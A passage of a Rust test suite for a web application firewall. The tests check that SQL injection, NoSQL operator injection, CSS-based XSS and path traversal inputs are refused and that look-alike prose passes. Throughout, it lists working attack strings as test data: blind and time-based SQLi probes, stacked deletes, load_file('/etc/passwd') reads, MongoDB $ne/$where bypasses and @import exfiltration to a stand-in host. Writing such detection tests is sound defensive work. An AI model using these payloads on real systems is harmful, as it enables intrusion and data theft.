    fn a_list_bullet_before_a_numbered_choice_is_prose() {
        // "- " at a value's start is a bullet, as "- 1 and 1 is not null" is: "(1) or (2)" after it is a list's.
        passes(&["- (1) or (2)", "- (1) and (2)"]);
        refused(
            &["id=-(1)+or+(2)", "id=-+(-1)+or+1", "id=-(-1)+is+true"],
            "sqli-tautology",
        );
    }

    #[test]
    fn the_eighth_reviews_leftovers_are_caught() {
        refused(
            &[
                // MySQL's `div` and `mod` in a constant expression.
                "id=1+and+1+div+1%3D1",
                "id=1+and+5+mod+2%3D1",
                // A chain of literals after `not 0`, before the comment.
                "u=%27+or+not+0+and+1--",
            ],
            "sqli-tautology",
        );
        // MySQL's bit-value literals compared, as `0x1=1` is.
        refused(
            &[
                "id=1+and+b%271%27%3D1",
                "id=1+and+0b1%3D1",
                "u=%27+or+b%271%27%3D1--",
            ],
            "sqli-tautology",
        );
        passes(&["bob'1'=1", "rock 'n' roll b'1'", "0b101 and 1"]);
        // `div` and `mod` before a parenthesis, or between two.
        refused(
            &[
                "id=1+and+1+div(1)%3D1",
                "id=1+and+1+div(1)+mod(1)%3D0",
                "id=1+and+1+mod(1)%3D0",
            ],
            "sqli-tautology",
        );
        passes(&["1div1 and 1", "see (5)mod 2 = 1 below"]);
        // A constant subquery compared with a number is an operand, not a value's start.
        refused(&["id=1+and+1%3D(select+1)"], "sqli-subquery");
        passes(&[
            "Answer = (select 1)",
            "n2=(select 2)",
            "5 div 2 = 2 in MySQL",
        ]);
    }

    #[test]
    fn a_quoted_call_with_a_blank_before_its_parenthesis_is_caught() {
        refused(
            &[
                "id=1+and+%22ascii%22+(substr(user()%2C1%2C1))+%3E64+and+1",
                "id=1+and+%60ascii%60+(substr(user()%2C1%2C1))%3E64+and+1+and+1",
            ],
            "sqli-tautology",
        );
        refused(
            &[
                "t=%22sleep%22+(5)",
                "t=%60sleep%60+(5)",
                "t=%27+and+%22sleep%22+(5)%23",
                "t=1+and+%60sleep%60+%2F**%2F+(5)",
                "t=%22benchmark%22+(1000000%2Cmd5(1))",
                "t=%22pg_sleep%22+(0x5)",
                "t=%22load_file%22+(%27%2Fetc%2Fpasswd%27)",
            ],
            "sqli-function",
        );
        passes(&[
            "sleep (5 hours)",
            "\"sleep\" (5 hours)",
            "the \"sleep\" (in docs) call",
            "the `load_file` (see docs) function",
            "the \"benchmark\" (a rough one) ran",
        ]);
    }

    #[test]
    fn numbers_spelled_with_a_complement_hexadecimal_or_parentheses_and_chains_before_a_comment_are_caught(
    ) {
        refused(
            &[
                // MySQL's `~`: `~0` is 2^64-1, true; `~~1` is 1.
                "id=1+and+~0",
                "id=1+and+~0+and+1",
                "id=1+and+1%3D~~1",
                // A hexadecimal literal compared with a decimal one.
                "id=1+and+0x1%3D1",
                // A value's number in parentheses.
                "id=(1)+and+1%3D1",
                "id=(1)and(1)%3D(1)",
                // A signed truth before a comment.
                "u=%27+or+-1--",
                // A chain of literals between the condition and its comment.
                "u=%27+and+ascii(substr(user()%2C1%2C1))%3E64+and+1--",
                "u=%27+or+id%3E0+and+1%23",
            ],
            "sqli-tautology",
        );
        passes(&[
            "~5 and 10",
            "rooms 1 and ~2",
            "see note ~2 and more",
            "1 and (2)",
            "(1) and (2) are done",
            "O'Brien and 1 -- great",
        ]);
    }

    #[test]
    fn a_true_literal_or_a_held_in_list_before_a_chain_of_literals_is_caught() {
        refused(
            &[
                "id=1+and+true+and+1",
                "id=1+and+true+or+0",
                "id=1+and+1+in+(1)+and+1",
                "id=1+and+1+in+(1)+and+1+and+true",
            ],
            "sqli-tautology",
        );
        passes(&[
            "1 and true love and 2",
            "pick 1 and 2 in (3) and 4",
            "1 and true and 1 more",
            "1 and 1 in (1) and 2 more",
        ]);
    }

    #[test]
    fn numeric_blind_injection_without_a_subquery_is_caught() {
        refused(
            &[
                "id=1+and+1%3D2",
                "id=1+and+2%3C1",
                "id=1+and+ascii(substr(user()%2C1%2C1))%3E64",
                "id=1+and+length(database())%3D8",
                "id=1)+or+(1%3D1",
            ],
            "sqli-tautology",
        );
        passes(&[
            "5 and 10 = 15",
            "solve x=1 and f(x)>2",
            "if n==1 and len(s)>5: print(s)",
        ]);
    }

    #[test]
    fn a_null_test_after_a_closing_quote_is_caught() {
        refused(
            &[
                "u=%27+is+not+null+or+%27x%27%3D%27y",
                "u=x%27+is+not+null--",
            ],
            "sqli-tautology",
        );
        passes(&[
            "the 'name' is not null or 'N/A'",
            "check that 'email' is not null -- required",
            "it's 'x' is null here",
        ]);
    }

    #[test]
    fn ordering_by_a_column_number_is_caught() {
        refused(
            &[
                "id=1+order+by+5--",
                "id=1+order+by+5",
                "id=1%27+order+by+5--+-",
                "id=1+order%2F**%2Fby+5%23",
                "id=1)+order+by+5--",
            ],
            "sqli-order-by",
        );
        passes(&[
            "Place your order by 5pm",
            "Please order by 5 tomorrow",
            "I'd like the 'family' order by 5",
            "SELECT name FROM users WHERE id=1 ORDER BY 2;",
        ]);
    }

    #[test]
    fn a_mongodb_operator_in_a_keys_first_bracket_is_caught() {
        refused(
            &[
                "user[$ne]=x",
                "password%5B%24gt%5D=",
                "user[$regex]=%5Eadm",
                "u[$where]=1",
            ],
            "sqli-nosql",
        );
        let c = config();
        // Strapi's documented filters: an operator second, a logical one first.
        for query in [
            "filters[title][$eq]=hello",
            "filters[$or][0][title][$eq]=hello",
            "filters[$and][1][date][$lt]=2024",
            "pagination[page]=1&sort[0]=title:asc",
            "user[name]=bob",
        ] {
            assert_eq!(inspect_url(&c, "/api", Some(query)), None, "{query}");
        }
    }

    #[test]
    fn strapi_filters_pass_only_at_the_top_or_under_populate() {
        // A `filters` key nested in another object is no Strapi parameter: `{user: {filters: {$ne: "x"}}}`.
        refused(
            &[
                "user[filters][$ne]=x",
                "user[filters][a][$ne]=x",
                "a[b][filters][c][$gt]=",
                "user[populate][filters][$ne]=x",
                "populate[filters][$ne]=x",
                "populate[a][b][filters][c][$ne]=x",
                "user[on][a][filters][$ne]=x",
                "populate[a][on][filters][$ne]=x",
            ],
            "sqli-nosql",
        );
        let c = config();
        for query in [
            "filters[title][$eq]=x",
            "filters[$or][0][a][$eq]=1",
            "filters[a][filters][$ne]=x",
            "populate[author][filters][name][$eq]=y",
            "populate[author][filters][name][$ne]=y",
            "populate[author][populate][books][filters][title][$ne]=y",
            // A dynamic zone's populate fragment: `populate[zone][on][component][filters]…`.
            "populate[blocks][on][shared.hero][filters][title][$ne]=y",
            "populate[blocks][on][shared.hero][populate][image][filters][name][$gt]=a",
        ] {
            assert_eq!(inspect_url(&c, "/api", Some(query)), None, "{query}");
        }
    }

    #[test]
    fn a_top_level_where_key_is_caught_and_dotnet_type_discriminators_pass() {
        // `User.find(req.query)`: `{$where: "…"}` runs JavaScript, as the JSON body's `{"$where":…}` does.
        refused(
            &[
                "%24where=this.password.length%3E0",
                "$where=1",
                "%5B%24where%5D=1",
                "$expr=1",
            ],
            "sqli-nosql",
        );
        let c = config();
        assert_eq!(
            inspect_body(
                &c,
                Some("application/x-www-form-urlencoded"),
                b"user=a&%24where=1"
            )
            .map(|h| h.rule),
            Some("sqli-nosql")
        );
        // System.Text.Json's and Json.NET's type discriminator names a type; MongoDB's `$type` a BSON type.
        for body in [
            r#"{"$type":"Shop.Order, Shop","$id":"1","Lines":{"$id":"2","$values":[]}}"#,
            r#"{"items":[{"$type":"Circle","r":1},{"$type" : "square","side":2}]}"#,
        ] {
            assert_eq!(
                inspect_body(&c, Some("application/json"), body.as_bytes()),
                None,
                "{body}"
            );
        }
        assert_eq!(
            inspect_url(&c, "/api", Some("shape=%7B%22%24type%22%3A%22Circle%22%7D")),
            None
        );
        for body in [
            r#"{"password":{"$type":"string"}}"#,
            r#"{"password":{"$type":2}}"#,
            r#"{"password":{"$type":["string","int"]}}"#,
            r#"{"password":{"$type":"objectId"}}"#,
        ] {
            assert_eq!(
                inspect_body(&c, Some("application/json"), body.as_bytes()).map(|h| h.rule),
                Some("sqli-nosql"),
                "{body}"
            );
        }
        refused(&["p=%7B%22%24type%22%3A%22string%22%7D"], "sqli-nosql");
    }

    #[test]
    fn a_mongodb_operator_in_any_bracket_or_json_key_is_caught() {
        // `filter[user][$ne]=x` is `{filter: {user: {$ne: "x"}}}` to `qs`, PHP and Rack.
        refused(
            &[
                "filter[user][$ne]=x",
                "a[b][$gt]=",
                "a%5Bb%5D%5Bc%5D%5B%24regex%5D=%5Ea",
                // Under Strapi's `filters`, MongoDB's own operators, which Strapi has not.
                "filters[name][$regex]=%5Ea",
                "filters[$where]=1",
                // JSON an origin parses from a value.
                "filter=%7B%22user%22%3A%7B%22%24ne%22%3Anull%7D%7D",
            ],
            "sqli-nosql",
        );
        let c = config();
        for body in [
            r#"{"user":{"$ne":null},"password":{"$ne":null}}"#,
            r#"{"$where":"this.password.length > 0"}"#,
            r#"{"password":{"$regex":"^a"}}"#,
            r#"{"user":{"\u0024ne":1}}"#,
            r#"{"n":{"$elemMatch" : {"a":1}}}"#,
        ] {
            assert_eq!(
                inspect_body(&c, Some("application/json"), body.as_bytes()).map(|h| h.rule),
                Some("sqli-nosql"),
                "{body}"
            );
        }
        // Strapi's operators under its `filters` (its `$not` first too), and keys with a `$` that name no operator.
        for query in [
            "filters[$not][title][$eq]=x",
            "filters[price][$gt]=5",
            "populate[author][filters][name][$ne]=bob",
            "price[$]=5",
            "amount[$usd]=5",
            "sort[price]=asc&filter[category]=shoes&page[size]=20",
            "filter[price][gte]=10&filter[price][lte]=50",
        ] {
            assert_eq!(inspect_url(&c, "/api", Some(query)), None, "{query}");
        }
        // JSON Schema's keywords, MongoDB's extended JSON, an operator's name as a value.
        for body in [
            r##"{"$schema":"https://json-schema.org/draft/2020-12/schema","$id":"u","properties":{"a":{"$ref":"#/$defs/a"}},"$defs":{"a":{}}}"##,
            r#"{"_id":{"$oid":"5f1c2a3e8b7d4c6e9a0f1d2e"},"at":{"$date":"2026-01-01T00:00:00Z"}}"#,
            r#"{"ops":[{"op":"replace","path":"/a","value":"$gt"}],"note":"use $ne: null","price":"$5"}"#,
        ] {
            assert_eq!(
                inspect_body(&c, Some("application/json"), body.as_bytes()),
                None,
                "{body}"
            );
        }
    }

    #[test]
    fn blind_probes_by_case_iif_find_in_set_a_digest_or_a_range_are_caught() {
        refused(
            &[
                "id=1+and+1%3D(case+when+1%3D1+then+1+else+0+end)",
                "id=1+and+(case+when+1%3D1+then+1+else+0+end)%3D1",
                "id=1+and+case+when+(1%3D1)+then+1+else+0+end",
                "sort=(case+when+(1%3D1)+then+id+else+name+end)",
                "id=(CASE+WHEN+(5735%3D5735)+THEN+1+ELSE+2+END)",
                "id=1/**/and/**/1%3D(case/**/when/**/1%3D1/**/then/**/1/**/else/**/0/**/end)",
                "u=x%27+and+(case+when+1%3D1+then+1+else+0+end)%3D1--",
                "id=1+and+iif(1%3D1%2C1%2C0)%3D1",
                "id=1+and+find_in_set(%27r%27%2Cuser())",
                "id=1+and+if(1%3D1%2C1%2C0)",
                "id=1+and+md5(password)%3E%275%27",
                "id=1+and+sha1(pw)+like+%27a%25%27",
                "id=1+and+length(database())+between+1+and+9",
                "id=1+and+substr(version()%2C1%2C1)+in+(%275%27)",
                "id=1+and+1%3Dcast(version()+as+numeric)",
                // After a quote that ends a string: MySQL's `sounds like`, error-based calls, a literal's `in`
                // before an open quote.
                "u=x%27+or+%27a%27+sounds+like+%27a",
                "u=x%27+and+1%3Dcast(user()+as+int)--",
                "u=x%27+and+1%3Dcast(current_user+as+int)--",
                "u=x%27+and+gtid_subset(user()%2C1)--",
                "u=x%27+and+elt(1%3D1%2C1)--",
                "u=x%27+or+1+in+(1)+or+%27",
            ],
            "sqli-tautology",
        );
        passes(&[
            "just in case when it rains then bring an umbrella else stay home, end of story",
            "Coffee (case of 12) when available then ship, end of month",
            "SELECT CASE WHEN x > 0 THEN 'pos' ELSE 'neg' END",
            "Page 1 and left(side)",
            "Released 2024 and iif(a,b,c) explained",
            "Top 10 and md5(x) explained",
            "x=1 and f(x)>2",
            "if x=1 and type(y)=='str':",
            "a=1 && b('c')==='d'",
            "Rated 1 and f('x') -- great",
            "it's 'a' and f(\"b\") -- c",
            "'Hamlet' and print('hi') -- fun",
            "Released 2 and only 1 = (case when)",
        ]);
    }

    #[test]
    fn css_injection_past_the_tag_checks_first_reading_is_caught() {
        refused(
            &[
                // A `>` inside a quoted attribute value does not end the tag.
                "q=%3Clink+title%3D%22%3E%22+href%3D%2F%2Fx.example%2Fa.css%3E",
                // Attributes padding `href` past a short window.
                &format!(
                    "q=%3Clink+rel%3Dstylesheet+data-a%3D{}+href%3D%2F%2Fx.example%2Fa.css%3E",
                    "a".repeat(200)
                ),
                // A word after `style` is an attribute to a browser: a rule after the tag is a style sheet.
                "q=%3Cstyle+x%3Einput%5Bvalue%5E%3Da%5D%7Bbackground%3Aurl(%2F%2Fx.example%2Fa)%7D%3C%2Fstyle%3E",
                "q=%3Cstyle+media%3Einput%7B%7D",
                // A URL parser drops a URL's leading blanks and its tabs; CSS reads a comment as a blank.
                "q=%40import+%27+%2F%2Fx.example%2Fa.css%27%3B",
                "q=%40import+%27ht%09tps%3A%2F%2Fx.example%2Fa.css%27%3B",
                "q=%40import%2F**%2Furl(%2F%2Fx.example%2Fa.css)%3B",
                "q=%40import+url(+%2F**%2F+%27%2F%2Fx.example%27)%3B",
            ],
            "xss-style",
        );
        passes(&[
            "Follow the <style guide> please",
            "paste <link here> and the <link to docs>",
            "A <link title=\"a > b\"> has no href",
        ]);
    }

    #[test]
    fn css_injection_is_caught() {
        refused(
            &[
                "q=%3Cstyle%3Einput%5Bvalue%5E%3Da%5D%7Bbackground%3Aurl(%2F%2Fx.example%2Fa)%7D%3C%2Fstyle%3E",
                "q=%3CSTYLE+media%3Dall%3Ex%3C%2Fstyle%3E",
                "q=%3Cstyle+%3E",
                "q=%3Clink+rel%3Dstylesheet+href%3D%2F%2Fx.example%2Fa.css%3E",
                "q=%3Clink%2Fhref%3D%22%2F%2Fx.example%22%3E",
                "q=%40import+url(%2F%2Fx.example%2Fa.css)%3B",
                "q=%40import+%27https%3A%2F%2Fx.example%2Fa.css%27%3B",
                "q=%40import+url(%5C%5Cx.example%2Fa.css)",
            ],
            "xss-style",
        );
        passes(&[
            "Follow the <style guide> please",
            "paste <link here> and the <link to docs>",
            "Use a <link rel> element",
            "In SCSS write @import 'variables'; first",
            "@import url(theme.css);",
            "@import \"mixins\";",
            "Hey @import_bot can you help",
        ]);
    }

    #[test]
    fn an_open_string_compared_with_a_column_or_holding_comment_markers_is_caught() {
        refused(
            &[
                "u=%27+or+password+regexp+%27%5Ea",
                "u=%27+or+name+like+%27a%25",
                "u=%27+or+%27a--%27%3D%27a--",
                "u=%27+or+%27x%23%27%3D%27x%23",
                "u=%27+or+%27a+b%27%3D%27a+b",
            ],
            "sqli-tautology",
        );
        passes(&[
            "Tom's 'pizza' or name like 'Pepperoni",
            "Dad's 'famous' chili or mom's like 'chili",
            "WHERE name = 'bob' OR email LIKE 'bob%",
        ]);
    }

    #[test]
    fn a_condition_after_a_quote_that_opens_a_string_passes() {
        passes(&["'x' and len(b) > 5; # note", "'A' and price > 5 -- cheap"]);
        refused(&["u=%27+and+len(b)%3E5%3B+%23"], "sqli-tautology");
    }

    #[test]
    fn prose_beside_a_relative_path_or_a_delete_passes() {
        passes(&[
            "see ../docs",
            "(see ../docs/guide.md)",
            "Copy `config.example` to `../config`; see [the readme](../README.md)",
            "Ctrl+C; delete from the list",
            "Delete from the cart; delete from my wishlist",
        ]);
        refused(
            &[
                "f=../secret",
                "f=+../secret",
                "f=..%5Csecret",
                "f=see+../../x",
            ],
            "traversal-dotdot",
        );
        refused(
            &["id=1%3Bdelete+from+users", "id=1%3Bdelete+from+the"],
            "sqli-stacked",
        );
    }

    /// `delete from` and a determiner is prose only when a word follows that no `delete` statement puts there: SQL
    /// Server's `delete from a from users a` deletes from `users` through the alias `a` (a determiner), and MySQL's
    /// and SQL Server's `delete users from users` / `delete u from users u` name the table before `from`.
    #[test]
    fn a_delete_whose_determiner_is_an_alias_or_whose_target_precedes_from_is_caught() {
        refused(
            &[
                "id=1%3Bdelete+from+a+from+users+a",
                "id=1%3Bdelete+from+the+from+users+the",
                "id=1%3Bdelete+from+a+where+1%3D1",
                "id=1%3Bdelete+users+from+users",
                "id=1%3Bdelete+u+from+users+u+where+1%3D1",
                "id=1%3Bdelete+a+from+users+as+a",
                "id=1%3Bdelete%2F**%2Fu%2F**%2Ffrom%2F**%2Fusers%2F**%2Fu",
                "id=1%3Bdelete+quick+ignore+from+users",
                "id=1%3Bdelete+low_priority+from+users",
                "id=1%3Bdelete+top+(1)+from+users",
                "id=1%3Bdelete+top+5+from+users",
            ],
            "sqli-stacked",
        );
        passes(&[
            "Ctrl+C; delete from the list",
            "Tip; delete a file from a folder",
            "Oops; delete photos from the album",
            "Then; delete the draft from the outbox",
            "Note; delete all from my list",
        ]);
    }

    /// `$not` is a field's operator too: `{password: {$not: {$eq: "x"}}}` matches every other password.
    #[test]
    fn a_negated_mongodb_operator_is_caught() {
        refused(
            &[
                "password[$not][$eq]=x",
                "password%5B%24not%5D%5B%24regex%5D=%5E%24",
            ],
            "sqli-nosql",
        );
    }

    /// A line break or a tab ends a line or a field: a value read line by line (a list of paths) or as tab-separated
    /// fields reads `../secret` after it as a path of its own, where only a space makes `x ..` one segment.
    #[test]
    fn a_parent_segment_after_a_line_break_or_a_tab_is_caught() {
        refused(
            &[
                "f=a%0a../secret",
                "f=a%0d%0a../secret",
                "f=a%09../secret",
                "f=a%0A..%5Csecret",
            ],
            "traversal-dotdot",
        );
        passes(&["see ../docs", "see  ../docs", "Read:\n(see ../docs)"]);
    }

    /// The column count is probed with a list (`order by 1,2,3`), a direction, a closing `;`, and `group by` as
    /// well as `order by`.
    #[test]
    fn column_count_probes_in_other_spellings_are_caught() {
        refused(
            &[
                "id=1+ORDER+BY+5,1",
                "id=1+order+by+1,2,3,4,5--",
                "id=1+order+by+5+desc",
                "id=1+order+by+5+asc--+-",
                "id=1+order+by+5%3B--",
                "id=1+group+by+5",
                "id=1+GROUP+BY+1,2,3--",
                "id=1%27+group+by+5--+-",
            ],
            "sqli-order-by",
        );
        passes(&[
            "Place your order by 5pm",
            "Please group by 5 people",
            "2 group by 5 tables",
            "I'd like the 'family' group by 5",
            "3 order by 5, 6 or 7 pm",
        ]);
    }

    /// After a number a value starts with, a call that wraps a blind function (`greatest(ascii(…))`,
    /// `md5(user())`) reads data as the blind function does, and so does a column's pattern (`password like 'a%'`).
    #[test]
    fn numeric_blind_injection_through_a_wrapping_call_or_a_pattern_is_caught() {
        refused(
            &[
                "id=1+and+greatest(ascii(mid(user(),1,1)),0)>64",
                "id=1+and+md5(user())>'5'",
                "id=1+and+reverse(user())>'a'",
                "id=1+and+char(ascii(mid(user(),1,1)))%3D'r'",
                "id=1+and+unhex(hex(user()))%3D'root'",
                "id=1+and+sqlite_version()>'3'",
                "id=1+and+password+like+'a%25'",
                "id=1+and+password+regexp+'^a'",
                "id=1+and+current_user+like+'r%25'",
            ],
            "sqli-tautology",
        );
        passes(&[
            "solve x=1 and f(x)>2",
            "x=1 and g(h(x))>2",
            "n=1 and name like 'bob'",
            "if n==1 and len(s)>5: print(s)",
        ]);
    }

    #[test]
    fn forwarded_addresses_and_accept_language_are_read_as_input() {
        let c = config();
        let header = |name: &str, value: &str| {
            inspect_headers(&c, &[(name.to_owned(), value.to_owned())]).map(|h| h.rule)
        };
        assert_eq!(
            header("X-Forwarded-For", "1' or '1'='1"),
            Some("sqli-tautology")
        );
        assert_eq!(
            header("x-forwarded-for", "127.0.0.1' and sleep(5)#, 10.0.0.1"),
            Some("sqli-function")
        );
        assert_eq!(
            header(
                "Accept-Language",
                "en' union select password from users-- -"
            ),
            Some("sqli-union")
        );
        assert_eq!(
            header("Accept-Language", "../../../etc/passwd"),
            Some("traversal-dotdot")
        );
        for (name, value) in [
            ("accept-language", "en-US,en;q=0.9"),
            ("accept-language", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7"),
            (
                "accept-language",
                "zh-CN,zh;q=0.9,zh-TW;q=0.8,en-US;q=0.7,en;q=0.6",
            ),
            (
                "accept-language",
                "fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5",
            ),
            ("accept-language", "*"),
            (
                "x-forwarded-for",
                "203.0.113.195, 70.41.3.18, 150.172.238.178",
            ),
            (
                "x-forwarded-for",
                "2001:db8:85a3:8d3:1319:8a2e:370:7348, unknown",
            ),
            ("x-forwarded-for", "198.51.100.7"),
        ] {
            assert_eq!(header(name, value), None, "{name}: {value}");
        }
    }

    /// A 0 in either body setting reads like "no limit" and is anything but: `inspect_body_bytes = 0` forwarded every
    /// body uninspected while the WAF looked switched on, `max_body_bytes = 0` refused every request with a body (403
    /// `size-body`). Each is refused at start naming its field; 1 is taken.
    #[test]
    fn a_body_setting_of_zero_is_refused() {
        for field in ["inspect_body_bytes", "max_body_bytes"] {
            let at = |n: u64| {
                let mut c = config();
                match field {
                    "inspect_body_bytes" => c.inspect_body_bytes = n as usize,
                    _ => c.max_body_bytes = n,
                }
                c.validate()
            };
            let error = at(0).expect_err(field);
            assert!(
                error.contains(&format!("{field} must be at least 1")),
                "{error}"
            );
            assert!(at(1).is_ok(), "{field} = 1");
        }
    }

    #[test]
    fn the_fifth_reviews_misses_are_caught_and_their_prose_passes() {
        let c = config();
        for (text, rule) in [
            // CSS escapes decoded before `@import` and `url(` are read.
            ("@\\69mport url(//x.example/a.css)", "xss-style"),
            ("@\\69 mport url(//x.example/a.css)", "xss-style"),
            ("@\\000049MPORT url(//x.example/a.css)", "xss-style"),
            ("@import u\\72l(//x.example/a.css)", "xss-style"),
            ("@import url(\\2f\\2fx.example/a.css)", "xss-style"),
            ("@im\\port url(//x.example/a.css)", "xss-style"),
            // A bare `case when … end` as a whole value.
            ("sort=case when 1=1 then id else name end", "sqli-tautology"),
            (
                "case when (1=1) then 'a' else 'b' end desc",
                "sqli-tautology",
            ),
            (
                "sort=case when ascii(substr(user(),1,1))>64 then id end",
                "sqli-tautology",
            ),
            // `having` appended, with or without `group by`.
            (
                "' or 1 group by concat(user(),floor(rand(0)*2)) having min(0)#",
                "sqli-order-by",
            ),
            ("x' having 1=1--", "sqli-order-by"),
            ("id=1 group by id having count(*)>0", "sqli-order-by"),
            // Literal predicates ending a numeric injection.
            ("id=1 and true", "sqli-tautology"),
            ("id=1 and 1 in (1)", "sqli-tautology"),
            ("id=1 and 1=1e0", "sqli-tautology"),
            ("id=1 and char(97)=char(97)", "sqli-tautology"),
            // A quoted function name, which MySQL resolves against its native functions.
            ("x' and `sleep`(5)#", "sqli-function"),
            ("1 or \"pg_sleep\"(5)--", "sqli-function"),
            ("`benchmark`(5000000,md5(1))", "sqli-function"),
        ] {
            assert_eq!(
                scan(&c, text, "query").map(|h| h.rule),
                Some(rule),
                "{text}"
            );
        }
        for text in [
            "in case when it rains then bring an umbrella else stay home, end of story",
            "case when it rains then bring an umbrella else stay home end",
            "case when in doubt then ask a friend, end of story",
            "@import url(the\\6de.css); .a::before { content: \"\\201C\" }",
            "C:\\Users\\me\\import\\a.css",
            "Sort the 'sales' group by region having the most revenue",
            "q=1 having fun",
            "5 and 10 = 15",
            "1 and true love",
            "id=1 and true love",
            "rooms=1 or 2",
            "Truth table: 1 AND 1 = 1, 1 AND 0 = 0",
            "pick 1 and 2 in (3)",
            "x=1 and f(x)=f(y)",
            "the `sleep` (in docs) call",
            "the \"sleep\"(8h) rule",
        ] {
            assert_eq!(scan(&c, text, "query"), None, "{text}");
        }
    }

    #[test]
    fn the_sixth_reviews_misses_are_caught_and_their_prose_passes() {
        let c = config();
        for (text, rule) in [
            // A blind function's name quoted and glued to its `(`, as `` `sleep`(5) `` is.
            (
                "id=1 and `ascii`(substring(user(),1,1))>64",
                "sqli-tautology",
            ),
            (
                "id=1 and \"ascii\"(substring(user(),1,1))>64",
                "sqli-tautology",
            ),
            (
                "id=1 and greatest(`ascii`(mid(user(),1,1)),0)>64",
                "sqli-tautology",
            ),
            ("id=1 and 1=`length`(user())", "sqli-tautology"),
            ("x' and `length`(pw)>5--", "sqli-tautology"),
            // IE's CSS expression spelled with escapes or a comment.
            ("<p style=\"width:e\\78pression(x)\">", "xss-dom"),
            ("<p style=\"width:expr\\65 ssion(x)\">", "xss-dom"),
            ("<p style=\"width:ex/**/pression(x)\">", "xss-dom"),
            // Literal predicates ending a numeric injection.
            ("id=1 and 1 between 0 and 2", "sqli-tautology"),
            ("id=1 and 1 is not null", "sqli-tautology"),
            ("id=1 and not 0", "sqli-tautology"),
            ("id=1 and not false", "sqli-tautology"),
            ("id=1 or not 1=2", "sqli-tautology"),
        ] {
            assert_eq!(
                scan(&c, text, "query").map(|h| h.rule),
                Some(rule),
                "{text}"
            );
        }
        // A `<link` whose attributes run past the tag's window before `href=`.
        let padded = format!(
            "<link rel=stylesheet {}href=//x.example/a.css>",
            "a=b ".repeat(300)
        );
        assert_eq!(
            scan(&c, &padded, "query").map(|h| h.rule),
            Some("xss-style")
        );
        for text in [
            "the `ascii` (in docs) table",
            "the \"length\" (of it) matters",
            "Regular expression (regex) tips: e\\d+",
            "pick between 0 and 2 items",
            "Step 1 and 1 between 0 and 2 items",
            "id=1 and 1 between 3 and 4 weeks",
            "the value is not null here",
            "Page 1 and not 0 items",
            "1 or not",
            "paste a <link here and some more words",
        ] {
            assert_eq!(scan(&c, text, "query"), None, "{text}");
        }
    }

    #[test]
    fn a_quoted_function_name_with_a_blank_before_its_call_is_caught_when_compared_at_the_end() {
        // PostgreSQL reads `"ascii" (…)` as the call `ascii(…)`; MySQL does for `` `ascii` (…) `` too.
        let c = config();
        for text in [
            "id=1 and \"ascii\" (substring(user(),1,1))>64",
            "id=1 and `ascii`  (substring(user(),1,1))>64",
            "id=1 and \"ascii\" (substring(user(),1,1))>64-- -",
            "id=1 and \"length\" (user())>5;",
            "id=1 and \"ascii\" (substring(user(),1,1))>'5'",
            "x' and \"ascii\" (substring(user(),1,1))>64--",
            // Or in a range, as the glued call is (`id=1 and length(database()) between 1 and 9`).
            "id=1 and \"ascii\" (substring(user(),1,1)) between 64 and 128",
            "x' and \"length\" (pw) between 1 and 9--",
        ] {
            assert_eq!(
                scan(&c, text, "query").map(|h| h.rule),
                Some("sqli-tautology"),
                "{text}"
            );
        }
        // Prose quoting a name and a parenthesis: no comparison, or text after it.
        for text in [
            "the \"ascii\" (in docs) table",
            "Step 1 and \"ascii\" (in docs) table",
            "id=1 and \"ascii\" (in docs) is > 5 chars long",
            "id=1 and \"ascii\" (in docs) between 1 and 2 pages",
            "the \"length\" (of it) matters",
        ] {
            assert_eq!(scan(&c, text, "query"), None, "{text}");
        }
    }

    #[test]
    fn a_numeric_injections_literal_predicate_is_caught_with_any_numbers_spelling_and_chained() {
        let c = config();
        for text in [
            "id=1 and 1.0 between 0 and 2",
            "id=1 and 1 between 0 and 2e0",
            "id=1 and 1 between 0x0 and 2",
            "id=1 and 0x1 between 0 and 2",
            "id=1 and 1 between -1 and .5e1",
            "id=1 and 1.5 is true",
            "id=1 and 1e0 is not null",
            "id=1 and not 0.0",
            "id=1 and not 0x0",
            "id=1 and 1 between 0 and 2 and 1",
            "id=1 and 1 between 0 and 2 or 0",
            "id=1 and 1 is not null and 1",
            "id=1 and 1 is not null and 1 and true-- -",
            "id=1 and not 0 and 2",
        ] {
            assert_eq!(
                scan(&c, text, "query").map(|h| h.rule),
                Some("sqli-tautology"),
                "{text}"
            );
        }
        for text in [
            "between 1.5 and 2 hours",
            "wait 1 and 1.5 between 1 and 2 hours",
            "Step 1 and 1.5 between 1 and 2",
            "chapters 1 and 2 and 3",
            "id=1 and 1 between 0 and 2 and 0",
            "id=1 and 1 between 0 and 2 and 3 more",
            "id=1 and 1 between 0x2 and 0x3",
            "id=1 and 1 is not null and 0",
            "id=1 and 1 is not null and 1 apple",
            "id=1 and 2 between 0 and 1.5",
            "q=1 and 1e9 between 0 and 2",
        ] {
            assert_eq!(scan(&c, text, "query"), None, "{text}");
        }
    }

    #[test]
    fn a_literal_predicates_chain_of_literals_is_read_to_its_end() {
        // A chain of any length, and `and`/`or` glued to a parenthesis as SQL reads them (`and(1)`).
        let c = config();
        let long = |op: &str, literal: &str, n: usize| {
            format!(
                "id=1 and 1 between 0 and 2{}",
                format!(" {op} {literal}").repeat(n)
            )
        };
        for text in [
            long("and", "1", 9),
            long("and", "1", 40) + "-- -",
            long("or", "1", 9),
            long("and", "true", 12),
            long("or", "0", 12),
            "id=1 and 1 between 0 and 2 and(1)".to_string(),
            "id=1 and 1 between 0 and 2 or(0)".to_string(),
            "id=1 and 1 is not null and (1) and(2)".to_string(),
        ] {
            assert_eq!(
                scan(&c, &text, "query").map(|h| h.rule),
                Some("sqli-tautology"),
                "{text}"
            );
        }
        for text in [
            long("and", "1", 9) + " and 0",
            long("and", "1", 9) + " more",
            "id=1 and 1 between 0 and 2 and(0)".to_string(),
            "id=1 and 1 between 0 and 2 android".to_string(),
            "id=1 and 1 between 0 and 2 order".to_string(),
        ] {
            assert_eq!(scan(&c, &text, "query"), None, "{text}");
        }
    }

    #[test]
    fn literal_predicates_read_numbers_and_chains_in_bounded_work() {
        // 64 KiB of numbers, chains and predicates: the chain after each predicate and each number are read once.
        for unit in [
            "1 and 1 and ",
            "=1 and 1 is true and 1 and 1 and ",
            "=1 and not 0 or 1 ",
            "=1 and 1 between 0 and 2 and 1 and ",
            "=1 and -1 between -2 and 0 and ",
            "=1 and 1 between 1e1e1e1e1e1e1e",
            "=1 and 1 between 0x0x0x0x0x0x0x",
            "1e1e1e1e1e1e",
            "0x0x0x0x0x0x",
